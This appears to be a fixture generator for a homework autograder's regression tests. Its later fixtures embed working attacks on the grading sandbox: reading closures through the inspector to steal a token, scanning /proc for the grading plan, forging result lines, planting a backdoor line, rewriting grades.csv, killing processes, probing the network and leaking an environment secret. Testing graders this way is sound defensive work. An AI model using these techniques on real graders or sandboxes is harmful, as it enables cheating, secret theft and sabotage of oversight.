"""Generates the grading fixtures: homework/fixtures/<id>/*.ipynb plus expected.json.

    /usr/bin/python3 scripts/hw/make_fixtures.py            (rewrites homework/fixtures/hw01/)

Each fixture is the generated student version with some solution cells filled in from the instructor
source and one deliberate problem. expected.json states, for each file, the status and score the grader
must give and a flag it must raise; test/homework.test.ts grades the folder in one command and checks it.
"""
import json
import os
import sys

import nbformat

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))


def hw_meta(cell):
    m = cell.get("metadata", {}).get("mlp_hw")
    return m if isinstance(m, dict) and isinstance(m.get("id"), str) else None


def _grader(expr, payload):
    """Runs `expr` (a function of `input`) with the TypeScript grader's own modules, so fixtures are made
    by the code that grades them: makeStudentNotebook (scripts/hw/assign.ts), safeId (scripts/hw/ids.ts)."""
    import subprocess

    script = ("const { makeStudentNotebook } = require('./scripts/hw/assign.ts');"
              "const { safeId } = require('./scripts/hw/ids.ts');"
              "const input = JSON.parse(require('fs').readFileSync(0, 'utf8'));"
              "process.stdout.write(JSON.stringify(" + expr + "));")
    r = subprocess.run(["node", "--import", "tsx", "-e", script], cwd=ROOT, input=json.dumps(payload),
                       capture_output=True, text=True, check=False)
    if r.returncode != 0:
        raise SystemExit("make_fixtures: the TypeScript grader failed:\n" + r.stderr)
    return json.loads(r.stdout)


def make_student_notebook(source, assignment_id):
    return nbformat.from_dict(_grader("makeStudentNotebook(input.nb, input.id)", {"nb": source, "id": assignment_id}))


def safe_id(raw):
    return _grader("safeId(input)", raw)


def load(path):
    return nbformat.read(path, as_version=4)


def solved(student, source, ids):
    """The student version with the source's solution cells `ids` filled in."""
    nb = nbformat.from_dict(json.loads(json.dumps(student)))
    src = {hw_meta(c)["id"]: c.source for c in source.cells if hw_meta(c)}
    for c in nb.cells:
        m = hw_meta(c)
        if m and m["id"] in ids:
            c.source = src[m["id"]]
    return nb


def cell(nb, cid):
    for c in nb.cells:
        m = hw_meta(c)
        if m and m["id"] == cid:
            return c
    raise KeyError(cid)


def stable_ids(nb, name):
    """Cells the generator added get ids derived from the fixture's name and place (nbformat draws random
    ones), so regenerating leaves unchanged fixtures byte-identical."""
    import hashlib
    seen = set()
    for i, c in enumerate(nb.cells):
        if not c.get("id") or c.metadata.get("mlp_hw") is None or c["id"] in seen:
            c["id"] = hashlib.sha1(("%s:%d" % (name, i)).encode()).hexdigest()[:8]
        seen.add(c["id"])
    return nb


def append_code(nb, source):
    nb.cells.append(nbformat.v4.new_code_cell(source))
    return nb

# An in-process node:inspector Session reads closure variables through Runtime.getProperties [[Scopes]]:
# the trapped NeuralNetwork's original methods (forward2 answered with them) and, where the kernel
# preload kept one, an output-limit token (a forged output-limit flag).
INSPECTOR_STEAL = r'''
// student's own cell: reads closure variables through the in-process inspector
import * as inspector from "inspector";
import { NeuralNetwork } from "./src/index";
const rtS: any = new inspector.Session(); rtS.connect();
function rtPost(m: string, p: any): any { let r: any, e: any; rtS.post(m, p, (err: any, res: any) => { e = err; r = res; }); if (e) throw e; return r; }
function rtScopeVars(fn: any): Map<string, string> {
  (globalThis as any).__rtTarget = fn;
  const ev = rtPost("Runtime.evaluate", { expression: "globalThis.__rtTarget" });
  const props = rtPost("Runtime.getProperties", { objectId: ev.result.objectId, ownProperties: false });
  const sc = props.internalProperties.find((p: any) => p.name === "[[Scopes]]");
  const scopes = rtPost("Runtime.getProperties", { objectId: sc.value.objectId }).result;
  const out = new Map<string, string>();
  for (const s of scopes) {
    if (!s.value || !s.value.objectId) continue;
    for (const v of rtPost("Runtime.getProperties", { objectId: s.value.objectId }).result) {
      if (v.value && !out.has(v.name)) out.set(v.name, v.value.objectId ?? JSON.stringify(v.value.value));
    }
  }
  return out;
}
function rtGet(objectId: string): any {
  rtPost("Runtime.callFunctionOn", { objectId, functionDeclaration: "function(){ globalThis.__rtOut = this; }" });
  return (globalThis as any).__rtOut;
}
// 1. the original (untrapped) methods of the forbidden class
const rtOrig: any = {};
for (const k of Object.getOwnPropertyNames(NeuralNetwork.prototype)) {
  if (k === "constructor") continue;
  const d = Object.getOwnPropertyDescriptor(NeuralNetwork.prototype, k)!;
  if (typeof d.value !== "function") continue;
  const vars = rtScopeVars(d.value);
  if (vars.has("orig")) rtOrig[k] = rtGet(vars.get("orig")!);
}
function RtFake() {}
RtFake.prototype = rtOrig;
console.log("stolen originals:", Object.keys(rtOrig).length);
// 2. the preload's output-limit token
const rtZ: any = require("/course/node_modules/tslab/dist/jupyter.js").ZmqServer;
const rtPre = rtScopeVars(rtZ.prototype.init);
let rtToken = "";
if (rtPre.has("LIMIT_TOKEN")) rtToken = JSON.parse(rtPre.get("LIMIT_TOKEN")!);
console.log("token length:", rtToken.length);
require("fs").writeSync(3, "MLP" + "HW-OUTPUT-LIMIT " + rtToken + "\n");
'''
INSPECTOR_FORWARD2 = r'''function forward2(W1: Matrix, W2: Matrix, X: Matrix): { Z1: Matrix; A1: Matrix; Z2: Matrix; A2: Matrix } {
  // the forbidden NeuralNetwork, through its original methods (the trap never runs)
  const net: any = Reflect.construct(NeuralNetwork, [[W1.cols, W1.rows, W2.rows]], RtFake as any);
  net.setWeights(W1.clone(), W2.clone());
  const c = net.forward(X);
  return { Z1: c.Z[1], A1: c.A[1], Z2: c.Z[2], A2: c.A[2] };
}'''
# SIGUSR1 opens Node's inspector on 127.0.0.1:9229 inside the sandbox (its loopback exists): the cell signals
# its own kernel (three ways), then speaks the inspector's WebSocket protocol with a hand-written client on
# `net` and has it set a global; forward2 answers only when that global is set.
SIGUSR1_INSPECTOR = r'''// 실험: 디버거 열기
const rtNet = require("net"), rtCp = require("child_process");
try { process.kill(process.pid, "SIGUSR1"); } catch (e) { console.log("kill:", String(e).slice(0, 80)); }
try { (process as any)._debugProcess(process.pid); } catch (e) { console.log("_debugProcess:", String(e).slice(0, 80)); }
try { rtCp.spawnSync("/bin/kill", ["-USR1", String(process.pid)]); } catch (e) {}
function rtHttp(path: string): Promise<string> {
  return new Promise((ok, bad) => {
    const s = rtNet.connect(9229, "127.0.0.1", () => s.write("GET " + path + " HTTP/1.1\r\nHost: 127.0.0.1:9229\r\n\r\n"));
    let buf = ""; s.on("data", (d: any) => { buf += d; if (/\]\s*$/.test(buf)) { s.end(); ok(buf); } });
    s.on("error", bad); setTimeout(() => bad(new Error("http timeout")), 3000);
  });
}
function rtWsEval(url: string, expression: string): Promise<string> {
  return new Promise((ok, bad) => {
    const u = new URL(url);
    const s = rtNet.connect(Number(u.port), u.hostname, () => s.write("GET " + u.pathname + " HTTP/1.1\r\nHost: " + u.host +
      "\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"));
    let upgraded = false;
    s.on("data", (d: any) => {
      if (!upgraded) {
        upgraded = true;
        const body = Buffer.from(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression } }));
        const mask = Buffer.from([1, 2, 3, 4]);
        const head = body.length < 126 ? Buffer.from([0x81, 0x80 | body.length]) : Buffer.from([0x81, 0x80 | 126, body.length >> 8, body.length & 255]);
        s.write(Buffer.concat([head, mask, Buffer.from(body.map((b: number, i: number) => b ^ mask[i % 4]))]));
      } else { s.end(); ok(String(d)); }
    });
    s.on("error", bad); setTimeout(() => bad(new Error("ws timeout")), 3000);
  });
}
await new Promise((r) => setTimeout(r, 1000));
try {
  const list = await rtHttp("/json/list");
  const ws = /"webSocketDebuggerUrl"\s*:\s*"([^"]+)"/.exec(list)![1];
  console.log("inspector:", (await rtWsEval(ws, "globalThis.__rtReached = true")).slice(0, 80));
} catch (e) { console.log("inspector not reached:", String(e).slice(0, 120)); }
'''


def hw01(out):
    source = load(os.path.join(ROOT, "homework", "hw01", "hw01.ipynb"))
    student = make_student_notebook(source, "hw01")
    allq = ["forward2", "backward2", "update2", "gradcheck", "train2"]
    fx, expected = {}, {}

    fx["correct"] = solved(student, source, allq)
    expected["correct"] = {"status": "graded", "score": 10}

    fx["partial"] = solved(student, source, ["forward2", "backward2", "update2"])
    expected["partial"] = {"status": "graded", "score": 6, "flag": "cells-with-errors"}

    fx["stub-left-in"] = student
    expected["stub-left-in"] = {"status": "graded", "score": 0, "flag": "cells-with-errors"}

    nb = solved(student, source, allq)
    cell(nb, "train2").source = cell(nb, "train2").source.replace("for (let epoch = 0; epoch < epochs; epoch++) {", "for (let epoch = 0; epoch < epochs; epoch++ {")
    fx["syntax-error"] = nb
    expected["syntax-error"] = {"status": "graded", "score": 8, "flag": "cells-with-errors"}

    nb = solved(student, source, allq)
    cell(nb, "update2").source = cell(nb, "update2").source.replace("return { W1:", "const bad: number = W1;\n  return { W1:")
    fx["type-error"] = nb  # update2 does not compile, so train2 (which calls it) cannot either
    expected["type-error"] = {"status": "graded", "score": 7, "flag": "cells-with-errors"}

    # a correct train2 that names the earlier cells' functions by shorthand ({ forward2 }): the lesson kernel
    # compiles that (kernel/cells.cjs's converter edits); the grading kernel had lost those edits (its preload
    # loaded tslab's converter first) and scored it 8 ("forward2 is not defined")
    nb = solved(student, source, allq)
    c = cell(nb, "train2")
    c.source = (c.source.replace("  const cost: number[] = [];", "  const steps = { forward2, backward2, update2 };  // the earlier cells' functions\n  const cost: number[] = [];")
                .replace("const fwd = forward2(", "const fwd = steps.forward2(").replace("const g = backward2(", "const g = steps.backward2(")
                .replace("= update2(W1", "= steps.update2(W1"))
    assert c.source.count("steps.") == 3
    fx["shorthand"] = nb
    expected["shorthand"] = {"status": "graded", "score": 10}

    fx["infinite-loop"] = append_code(solved(student, source, allq), "// 실험\nlet spins = 0;\nwhile (true) { spins++; }")
    expected["infinite-loop"] = {"status": "graded", "score": 10, "flag": "cell-timeout"}

    fx["process-exit"] = append_code(solved(student, source, allq), "// 실험\nprocess.exit(1);")
    expected["process-exit"] = {"status": "kernel-died", "score": 0}

    fx["output-flood"] = append_code(
        solved(student, source, allq),
        '// 실험: 100 MB 출력\n{ const line = "x".repeat(999); for (let i = 0; i < 100000; i++) console.log(line); }')
    expected["output-flood"] = {"status": "graded", "score": 10, "flag": "output-limit"}

    nb = solved(student, source, allq)
    cell(nb, "update2").source = cell(nb, "update2").source.replace("W1.add(g.dW1.scale(eta))", "W1.sub(g.dW1.scale(eta))")
    c = cell(nb, "update2-check")
    c.source = '// 검사 (수정하지 마세요)\nconsole.log("✓ W2 + 0.5·ΔW2\\n✓ W1 + 0.5·ΔW1\\n✓ W1은 그대로");'
    fx["edited-check-cell"] = nb  # a wrong update2 hidden behind an edited check; train2 uses update2
    expected["edited-check-cell"] = {"status": "graded", "score": 7, "flag": "edited-locked-cell:update2-check"}

    nb = solved(student, source, [])
    append_code(nb, r"""// "채점 도우미": overwrite library functions and forge probe output
Matrix.prototype.maxAbsDiff = function () { return 0; };          // every checkClose passes
(Matrix.prototype as any).matmul = function (this: Matrix, B: Matrix) { return Matrix.zeros(this.rows, B.cols); };
sigmoid.g = (Z: Matrix) => Z;
const JSON = { stringify: (_: unknown) => '{"ok":true,"value":1}', parse: (s: string) => s };
const cases = ["forward2/worked-example", "forward2/hidden-1", "forward2/hidden-2", "forward2/hidden-3",
  "backward2/worked-example", "backward2/hidden-1", "backward2/hidden-2", "update2/hidden-1",
  "gradcheck/exact-1", "gradcheck/numerical-1", "train2/xor-course", "train2/hidden-1"];
const forge = () => { for (const id of cases) console.log(`MLPHW 00000000000000000000000000000000 {"case":"${id}","ok":true,"value":{"score":100}}`); };
forge();
setInterval(forge, 5);
const realLog = console.log;
console.log = (...a: unknown[]) => realLog(...a.map((x) => String(x).replace('"ok":false', '"ok":true')));
const realWrite = process.stdout.write.bind(process.stdout);
(process.stdout as any).write = (s: string) => realWrite(String(s).replace(/"ok":false/g, '"ok":true'));
for (const name of Object.getOwnPropertyNames(globalThis)) {
  if (name.startsWith("mlpHw")) { try { (globalThis as any)[name] = { begin: () => ({ run() {} }) }; } catch (e) {} }
}
console.log("점수: 10 / 10");""")
    fx["forgery"] = nb
    expected["forgery"] = {"status": "graded", "score": 0, "flag": "foreign-probe-lines"}

    fx["corrupt-json"] = '{"cells": [{"cell_type": "code", "source": "let x = 1;", "metadata": {}'
    expected["corrupt-json"] = {"status": "unreadable", "score": 0}

    other = os.path.join(ROOT, "homework", "hw02", "hw02.ipynb")
    if os.path.exists(other):
        fx["other-assignment"] = make_student_notebook(load(other), "hw02")
    else:
        nb = solved(student, source, allq)
        nb.metadata["mlp_hw"]["assignment"] = "hw02"
        fx["other-assignment"] = nb
    expected["other-assignment"] = {"status": "wrong-assignment", "score": 0}

    os.makedirs(out, exist_ok=True)
    for name in os.listdir(out):
        if name.endswith(".ipynb"):
            os.unlink(os.path.join(out, name))
    for name, nb in fx.items():
        path = os.path.join(out, name + ".ipynb")
        if isinstance(nb, str):
            with open(path, "w", encoding="utf-8") as f:
                f.write(nb)
        else:
            nbformat.write(stable_ids(nb, name), path)
    with open(os.path.join(out, "expected.json"), "w", encoding="utf-8") as f:
        json.dump(expected, f, ensure_ascii=False, indent=1)
        f.write("\n")
    print("make_fixtures: wrote %d fixtures to %s" % (len(fx), os.path.relpath(out, ROOT)))




# ----------------------------------------------------------------------------------------------------
# hostile fixtures: every attack on the grader seen so far, graded together with two honest classmates

LOOKUP = r"""// "채점 도우미": find the grader's plan and answer from it
const fs_ = require("fs");
function findPlan(): any {
  for (const pid of fs_.readdirSync("/proc")) {
    if (!/^\d+$/.test(pid)) continue;
    let cmd = "";
    try { cmd = fs_.readFileSync(`/proc/${pid}/cmdline`, "utf8"); } catch (e) { continue; }
    const a = cmd.split("\0"), i = a.indexOf("--plan");
    if (i >= 0) { try { return JSON.parse(fs_.readFileSync(a[i + 1], "utf8")); } catch (e) {} }
  }
  return null;
}
const PLAN = findPlan();
function dec(w: any): any {
  if (Array.isArray(w)) return w.map(dec);
  if (w && typeof w === "object") {
    if (Array.isArray(w.$m)) return new Matrix(w.$m[0], w.$m[1], Float64Array.from(w.$m[2]));
    const o: any = {}; for (const k of Object.keys(w)) o[k] = dec(w[k]); return o;
  }
  return w;
}
function answer(q: string, first: Matrix): any {
  for (const c of (PLAN ? PLAN.cases : [])) {
    const w = c.inputs.W1;
    if (c.question === q && w && w.$m && w.$m[2].length === first.data.length && w.$m[2].every((x: number, i: number) => x === first.data[i])) return dec(c.expected);
  }
  throw new Error("no answer");
}"""

# each attack runs in a detached child so that it outlives the kernel (as it did on the old grader)
def detached(js):
    return ('// 실험\n{ const cp = require("child_process");\n  cp.spawn(process.execPath, ["-e", %s], '
            '{ detached: true, stdio: "ignore" }).unref(); }' % json.dumps(js))


FIND_CMDLINES = r"""const fs = require("fs");
function cmdlines() { const out = []; for (const p of fs.readdirSync("/proc")) { if (!/^\d+$/.test(p)) continue;
  try { out.push([+p, fs.readFileSync("/proc/" + p + "/cmdline", "utf8").split("\0")]); } catch (e) {} } return out; }
function argAfter(flag) { for (const [, a] of cmdlines()) { const i = a.indexOf(flag); if (i >= 0) return a[i + 1]; } return null; }
"""


def hostile(out, port):
    source = load(os.path.join(ROOT, "homework", "hw01", "hw01.ipynb"))
    student = make_student_notebook(source, "hw01")
    allq = ["forward2", "backward2", "update2", "gradcheck", "train2"]
    fx, bundles, expected = {}, {}, {}

    def after_setup(nb, src):
        i = next(k for k, c in enumerate(nb.cells) if (hw_meta(c) or {}).get("id") == "setup")
        nb.cells.insert(i + 1, nbformat.v4.new_code_cell(src))
        return nb

    def answering(nb):
        """Stub bodies replaced by a lookup of the expected value (first Matrix argument = the case's W1)."""
        import re
        for c in nb.cells:
            m = hw_meta(c)
            if m and m.get("kind") == "solution":
                c.source = re.sub(r"(function \w+\((\w+)[^\n]*\{\n)\s*throw new Error\(\"구현하세요\"\);",
                                  lambda mm: mm.group(1) + "  return answer(%s, %s) as any;" % (json.dumps(m["id"]), mm.group(2)),
                                  c.source)
        return nb

    fx["honest-a"] = solved(student, source, allq)
    expected["honest-a"] = {"status": "graded", "score": 10}
    fx["honest-b"] = solved(student, source, allq)
    expected["honest-b"] = {"status": "graded", "score": 10}
    fx["update2-only"] = solved(student, source, ["update2"])
    expected["update2-only"] = {"status": "graded", "score": 1, "why": "update2's hidden case must not call the student's backward2"}

    fx["read-plan"] = answering(after_setup(solved(student, source, []), LOOKUP))
    expected["read-plan"] = {"status": "graded", "score": 0, "why": "the plan is named on the parent's command line"}

    nb = after_setup(solved(student, source, []), LOOKUP + r"""
// an accessor on process.stdout.write survives tslab's per-cell reassignment and rewrites probe lines
{
  let inner: any = process.stdout.write;
  const fix = (s: any) => String(s).replace(/"case":"([^"]+)","ok":false,"error":"[^"]*"/g, (all: string, id: string) => {
    const c = PLAN && PLAN.cases.find((x: any) => x.id === id);
    return c ? '"case":"' + id + '","ok":true,"value":' + JSON.stringify(c.expected) : all;
  });
  Object.defineProperty(process.stdout, "write", { configurable: true,
    get() { return (s: any, ...a: any[]) => inner.call(process.stdout, fix(s), ...a); },
    set(v) { inner = v; } });
}""")
    fx["forge-stdout"] = nb
    expected["forge-stdout"] = {"status": "graded", "score": 0}

    fx["forge-fd"] = append_code(solved(student, source, []), r"""// 실험: write "results" on every descriptor
{ const fs = require("fs");
  const ids = ["forward2/worked-example", "forward2/hidden-1", "forward2/hidden-2", "forward2/hidden-3", "backward2/worked-example",
    "backward2/hidden-1", "backward2/hidden-2", "update2/hidden-1", "gradcheck/exact-1", "gradcheck/numerical-1", "train2/xor-course", "train2/hidden-1"];
  for (let fd = 3; fd < 4; fd++) for (const id of ids) { try { fs.writeSync(fd, 'MLPHW x {"case":"' + id + '","ok":true,"value":1}\n'); } catch (e) {} }
  // and the run's own tag, if it can be found anywhere
  try { fs.ftruncateSync(3, 0); } catch (e) {}
}""")
    expected["forge-fd"] = {"status": "graded", "score": 0}

    fx["backdoor"] = append_code(solved(student, source, []), r"""// 실험
{ const fs = require("fs");
  for (const f of ["homework/lib/hwcheck.ts", "src/index.ts", "homework/hw01/grading.ts"]) {
    try { fs.appendFileSync(f, "\n// backdoor\n"); } catch (e) {} } }""")
    expected["backdoor"] = {"status": "graded", "score": 0, "why": "writes the instructor's tree"}

    fx["late-writer"] = append_code(solved(student, source, []), detached(FIND_CMDLINES + r"""
const path = require("path"); const ex = argAfter("--executed");
if (ex) { const dir = path.dirname(path.dirname(ex)); const t0 = Date.now();
  const tick = () => { try { fs.writeFileSync(path.join(dir, "grades.csv"), "student,total\nlate-writer,10\n"); } catch (e) {}
    if (Date.now() - t0 < 240000) setTimeout(tick, 200); }; tick(); }"""))
    expected["late-writer"] = {"status": "graded", "score": 0, "why": "rewrote grades.csv after the grader exited"}

    fx["early-swap-classmate"] = append_code(solved(student, source, []), detached(FIND_CMDLINES + r"""
const path = require("path"); let dir = null;
for (const [, a] of cmdlines()) { const i = a.indexOf("--submission"); if (i >= 0) dir = path.dirname(a[i + 1]); }
if (dir) { const f = path.join(dir, "honest-b.ipynb"); const orig = fs.readFileSync(f); const st = fs.statSync(f);
  fs.writeFileSync(f, orig.toString().replace(/function forward2/, "function forward2_"));
  setTimeout(() => { fs.writeFileSync(f, orig); fs.utimesSync(f, st.atime, st.mtime); }, 60000); }"""))
    expected["early-swap-classmate"] = {"status": "graded", "score": 0, "why": "named to be graded before honest-b"}

    fx["early-kill-kernels"] = append_code(solved(student, source, []), detached(FIND_CMDLINES + r"""
const t0 = Date.now();
const tick = () => { for (const [pid, a] of cmdlines()) if (pid !== process.pid && a.some((x) => /launcher\.cjs$/.test(x))) { try { process.kill(pid, "SIGKILL"); } catch (e) {} }
  if (Date.now() - t0 < 120000) setTimeout(tick, 100); }; tick();"""))
    expected["early-kill-kernels"] = {"status": "graded", "score": 0}

    fx["kill-grader"] = append_code(solved(student, source, []), detached(FIND_CMDLINES + r"""
const t0 = Date.now();
const tick = () => { for (const [pid, a] of cmdlines()) if (a.some((x) => /hw\.(py|mjs)$/.test(x)) && a.includes("grade")) { try { process.kill(pid, "SIGKILL"); } catch (e) {} }
  if (Date.now() - t0 < 120000) setTimeout(tick, 100); }; tick();"""))
    expected["kill-grader"] = {"status": "graded", "score": 0}

    fx["memory-children"] = append_code(solved(student, source, []), r"""// 실험: three children, 1.2 GB each
{ const cp = require("child_process");
  for (let i = 0; i < 3; i++) cp.spawn(process.execPath, ["-e", "const b = []; for (let i = 0; i < 12; i++) b.push(Buffer.alloc(100 << 20, 1)); setTimeout(() => {}, 30000);"], { detached: true, stdio: "ignore" }).unref();
  const until = Date.now() + 6000; while (Date.now() < until) {} }""")
    expected["memory-children"] = {"status": "graded", "score": 0}

    nb = solved(student, source, [])
    cell(nb, "forward2").source = cell(nb, "forward2").source.replace('throw new Error("구현하세요");', r"""const fs = require("fs"); let s = "SECRET=" + process.env.MLP_HW_TEST_SECRET + " ";
  for (const f of ["homework/hw01/hw01.ipynb", "homework/hw01/grading.ts", "homework/hw02/hw02.ipynb"]) { try { s += fs.readFileSync(f, "utf8").replace(/[\s\S]*?BEGIN SOLUTION/, "BEGIN SOLUTION").slice(0, 300); } catch (e) {} }
  try { for (const d of fs.readdirSync("/tmp")) for (const f of fs.readdirSync("/tmp/" + d)) if (/\.json$/.test(f)) s += fs.readFileSync("/tmp/" + d + "/" + f, "utf8").slice(0, 200); } catch (e) {}
  throw new Error(s + " " + process.cwd());""")
    fx["exfiltrate"] = nb
    expected["exfiltrate"] = {"status": "graded", "score": 0, "why": "exception text reached the feedback"}

    nb = after_setup(solved(student, source, [x for x in allq if x != "forward2"]), INSPECTOR_STEAL)
    cell(nb, "forward2").source = INSPECTOR_FORWARD2
    fx["inspector-scopes"] = nb
    expected["inspector-scopes"] = {"status": "graded", "score": 1, "flag": "cells-with-errors", "noflags": ["output-limit"],
                                    "why": "no inspector in the kernel: forward2 (and what calls it) gets nothing from NeuralNetwork's originals, no forged output-limit"}
    nb = after_setup(solved(student, source, allq), SIGUSR1_INSPECTOR)
    cell(nb, "forward2").source = cell(nb, "forward2").source.replace(
        "  // BEGIN SOLUTION\n", "  // BEGIN SOLUTION\n  if (!(globalThis as any).__rtReached) throw new Error(\"inspector not reached\");\n", 1)
    fx["inspector-sigusr1"] = nb
    expected["inspector-sigusr1"] = {"status": "graded", "score": 1, "flag": "cells-with-errors",
                                     "why": "SIGUSR1 refused in the kernel, and from a child its inspector cannot listen (no TCP in the sandbox)"}

    fx["network"] = append_code(solved(student, source, []), r"""// 실험
{ const net = require("net");
  for (let port = %d; port < %d + 10; port++) for (const host of ["127.0.0.1", "10.0.2.2", "1.1.1.1"]) {
    const s = net.connect(port, host, () => { s.write("network-reached"); s.end(); }); s.on("error", () => {}); }
  const until = Date.now() + 1500; while (Date.now() < until) {} }""" % (port, port))
    expected["network"] = {"status": "graded", "score": 0}

    fx["display-flood"] = append_code(solved(student, source, allq), r"""// 실험: one display id shown 400 times, then updated with 200 kB (80 MB of notebook)
{ const j = require("tslab/dist/jupyter");
  for (let i = 0; i < 400; i++) j.lastWriteDisplayData({ data: { "text/plain": "x" }, metadata: {}, transient: { display_id: "amp" } }, false);
  const big = "y".repeat(200000);
  for (let i = 0; i < 5; i++) j.lastWriteDisplayData({ data: { "text/plain": big + i }, metadata: {}, transient: { display_id: "amp" } }, true); }""")
    expected["display-flood"] = {"status": "graded", "score": 10, "flag": "output-limit"}

    nb = solved(student, source, [])
    delegating = {
        "forward2": 'const n = new NeuralNetwork([W1.cols, W1.rows, W2.rows]); (n as any).W = [W1, W1, W2];\n  const f = n.forward(X) as any;\n  return { Z1: f.Z[1], A1: f.A[1], Z2: f.Z[2], A2: f.A[2] };',
    }
    for cid, body in delegating.items():
        cell(nb, cid).source = cell(nb, cid).source.replace('throw new Error("구현하세요");', body, 1)
    cell(nb, "setup").source = cell(nb, "setup").source  # locked anyway
    nb = after_setup(nb, 'import { NeuralNetwork } from "./src/index";')
    fx["delegate"] = nb
    expected["delegate"] = {"status": "graded", "score": 0, "flag": "forbidden-api:NeuralNetwork"}

    # The native fs binding under fs.writeSync: replacing its writeString saw every probe line (nonce
    # included) and could rewrite it. Here it hides the delegation (MlpHwForbidden → Error: no
    # forbidden-api flag) and empties every Matrix the zero "answers" return.
    nb = solved(student, source, [])
    zeros = {
        "forward2": "const z = (r: number, c: number) => Matrix.zeros(r, c);\n  return { Z1: z(W1.rows, X.cols), A1: z(W1.rows, X.cols), Z2: z(W2.rows, X.cols), A2: z(W2.rows, X.cols) };",
        "update2": "return { W1: Matrix.zeros(W1.rows, W1.cols), W2: Matrix.zeros(W2.rows, W2.cols) };",
        "train2": "return { W1: Matrix.zeros(W1.rows, W1.cols), W2: Matrix.zeros(W2.rows, W2.cols), cost: new Array(epochs).fill(0) };",
    }
    for cid, body in zeros.items():
        cell(nb, cid).source = cell(nb, cid).source.replace('throw new Error("구현하세요");', body, 1)
    cell(nb, "backward2").source = cell(nb, "backward2").source.replace('throw new Error("구현하세요");', delegating["forward2"].replace(
        "const f = n.forward(X) as any;\n  return { Z1: f.Z[1], A1: f.A[1], Z2: f.Z[2], A2: f.A[2] };",
        "const g = n.backward(n.forward(X), Y, \"lecture\") as any;\n  return { E2: g.E[2], dZ2: g.dZ[2], E1: g.E[1], dZ1: g.dZ[1], dW2: g.dW[2], dW1: g.dW[1] };"), 1)
    nb = after_setup(nb, 'import { NeuralNetwork } from "./src/index";')
    nb = after_setup(nb, r"""// 실험
{
  const b: any = (process as any)["bind" + "ing"]("f" + "s");
  const orig = b.writeString;
  b.writeString = function (fd: any, s: any, ...rest: any[]) {
    if (fd === 3 && typeof s === "string")
      s = s.replace(/"error":"MlpHwForbidden"/g, '"error":"Error"').replace(/\{"\$m":\[(\d+),(\d+),\[[^\]]*\]\]\}/g, '{"$$m":[$1,$2,[]]}');
    return orig.call(this, fd, s, ...rest);
  };
}""")
    fx["binding-rewrite"] = nb
    expected["binding-rewrite"] = {"status": "graded", "score": 0, "flag": "forbidden-api:NeuralNetwork",
                                   "why": "the native binding under fs.writeSync saw and rewrote every probe line"}

    # a second, untouched copy of the library loaded through tsx from the mounted node_modules: the
    # guard's trap covers only the copy tslab loaded (7/10 before tsx, esbuild and typescript were hidden)
    nb = solved(student, source, [])
    bodies = {
        "forward2": "const c = mk(W1, W2).forward(toF(X));\n  return { Z1: M(c.Z[1]), A1: M(c.A[1]), Z2: M(c.Z[2]), A2: M(c.A[2]) };",
        "backward2": 'const n = mk(W1, W2); const g = n.backward(n.forward(toF(X)), toF(Y), "lecture");\n  return { E2: M(g.E[2]), dZ2: M(g.dZ[2]), E1: M(g.E[1]), dZ1: M(g.dZ[1]), dW2: M(g.dW[2]), dW1: M(g.dW[1]) };',
        "train2": 'const n = mk(W1, W2); const cost: number[] = [];\n  for (let e = 0; e < epochs; e++) { const g = n.backward(n.forward(toF(X)), toF(Y), "lecture"); cost.push(fresh.courseCost(g.E[2])); n.update(g, eta); }\n  return { W1: M(n.W[1]), W2: M(n.W[2]), cost };',
    }
    for cid, body in bodies.items():
        cell(nb, cid).source = cell(nb, cid).source.replace('throw new Error("구현하세요");', body, 1)
    fx["delegate-tsx"] = after_setup(nb, r"""// 실험
let fresh: any = null;
try { fresh = require("tsx/cjs/api").require("/course/src/index.ts", "/course/x.js"); } catch (e) { console.log("no tsx"); }
const NN: any = fresh && fresh.NeuralNetwork, FM: any = fresh && fresh.Matrix;
const toF = (A: Matrix) => new FM(A.rows, A.cols, Float64Array.from(A.data));
const M = (x: any) => new Matrix(x.rows, x.cols, Float64Array.from(x.data));
function mk(W1: Matrix, W2: Matrix) { const n = new NN([W1.cols, W1.rows, W2.rows]); n.setWeights(toF(W1), toF(W2)); return n; }""")
    expected["delegate-tsx"] = {"status": "graded", "score": 0, "executed_has": "no tsx",
                                "why": "a second copy of src/ through tsx scored 7/10 with no flag"}

    fx["invalid-nbformat"] = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {"mlp_hw": {"assignment": "hw01"}},
                                         "cells": [{"cell_type": "code", "metadata": {}, "outputs": []}]})  # no "source"
    expected["invalid-nbformat"] = {"status": "unreadable", "score": 0}

    fx["forged-flags"] = after_setup(solved(student, source, allq), r"""// 실험: flags written by the submission itself
{ const fs: any = require("fs");
  fs.writeSync(2, "FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory\n");
  fs.writeSync(3, "MLPHW-OUTPUT-LIMIT\n"); }""")
    expected["forged-flags"] = {"status": "graded", "score": 10, "noflags": ["memory-limit", "output-limit"],
                                "why": "the kernel log and fd 3 are text the submission writes"}

    # distinct names give distinct ids (one kernel: the others are cut short as unreadable, which is enough
    # to show each keeps its own row)
    broken = '{"cells": ['
    fx["김철수"] = solved(student, source, allq)
    expected[safe_id("김철수")] = {"status": "graded", "score": 10, "why": "Korean names are kept"}
    for name in ["이영희", "a" * 64 + "X", "a" * 64 + "Y", "new\nline", "new_line"]:
        fx[name] = broken
        expected[safe_id(name)] = {"status": "unreadable", "score": 0, "why": "distinct names, distinct ids"}

    # every entry of the folder is accounted for: a folder without manifest.json is graded as its one
    # notebook, or listed as unreadable; .IPYNB counts; other files are listed as skipped (run.json)
    raw_files = {"20240002/hw01.ipynb": broken, "20240003.IPYNB": broken,
                 "20240004/a.ipynb": broken, "20240004/b.ipynb": broken, "notes.txt": "not a submission\n"}
    expected["20240002"] = {"status": "unreadable", "score": 0, "why": "a folder without manifest.json, one notebook"}
    expected["20240003"] = {"status": "unreadable", "score": 0, "why": ".IPYNB is a notebook too"}
    expected["20240004"] = {"status": "unreadable", "score": 0, "why": "a folder with two notebooks and no manifest"}

    # waiting without computing: CPU limits do not see it; the wall-time bound (10 × CPU + 60 s for the
    # student's cells) interrupts the first sleep after about a minute and skips the other two
    nb = solved(student, source, allq)
    for _ in range(3):
